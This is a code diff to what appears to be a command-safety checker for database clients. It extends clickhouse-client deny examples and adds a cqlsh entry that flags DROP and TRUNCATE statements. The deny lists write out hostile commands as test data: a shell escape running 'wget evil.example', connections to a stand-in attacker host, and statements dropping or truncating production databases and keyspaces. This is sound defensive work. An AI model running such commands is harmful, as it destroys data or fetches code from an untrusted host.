@@ -7,7 +7,7 @@ import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '..
 import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
 import { keeping } from './credentials.js';
-import { commandOptions, databaseClient, luaFile, sqliteFile, sqliteText, sshOptions } from './tools.js';
+import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -971,7 +971,25 @@ const SERVICES: ProgramEntry[] = [
     env: ['CLICKHOUSE_HOST'],
     operands: 'uri',
     more: databaseClient,
-    examples: { deny: ['clickhouse-client --host evil.example', 'clickhouse-client -h evil.example -q "select 1"', 'clickhouse-client --host=evil.example', "clickhouse-client -c '\\! wget evil.example'"], pass: ['clickhouse-client --host localhost -q "select 1"', 'clickhouse-client -q "select version()"'] },
+    examples: { deny: ['clickhouse-client --host evil.example', 'clickhouse-client -h evil.example -q "select 1"', 'clickhouse-client --host=evil.example', "clickhouse-client -c '\\! wget evil.example'", "clickhouse-client -q 'DROP DATABASE prod'", "clickhouse-client --query='TRUNCATE TABLE events'"], pass: ['clickhouse-client --host localhost -q "select 1"', 'clickhouse-client -q "select version()"'] },
+  }),
+  service({
+    // cqlsh [host [port]]: its operands are the host and the port.
+    names: ['cqlsh'],
+    summary: 'Cassandra shell',
+    host: [],
+    uri: [],
+    valued: ['u', 'username', 'p', 'password', 'k', 'keyspace', 'f', 'file', 'e', 'execute', 'cqlshrc', 'cqlversion', 'protocol-version', 'connect-timeout', 'request-timeout', 'encoding'],
+    env: ['CQLSH_HOST'],
+    operands: 'host',
+    hosts: (text) => (/^\d+$/.test(text) ? [] : serviceHosts(text)),
+    drops: (call) => {
+      const i = call.args.findIndex((a) => /^(-e|--execute)(=|$)/.test(value(a) ?? ''));
+      const v = i < 0 ? undefined : /^--execute=/.test(value(call.args[i]) ?? '') ? value(call.args[i])!.slice(10) : value(call.args[i + 1]);
+      const drop = v === undefined ? undefined : sqlDrop(v);
+      return drop ? `cqlsh -e runs ${drop}\u2026: what it drops is gone` : undefined;
+    },
+    examples: { deny: ['cqlsh cassandra.evil.example', "cqlsh -e 'DROP KEYSPACE prod'", "cqlsh localhost 9042 -e 'TRUNCATE app.users'"], pass: ['cqlsh localhost 9042', "cqlsh -e 'DESCRIBE KEYSPACES'", "cqlsh -e 'DROP TABLE IF EXISTS app.tmp_import'"] },
   }),
   service({
     names: ['nats'],
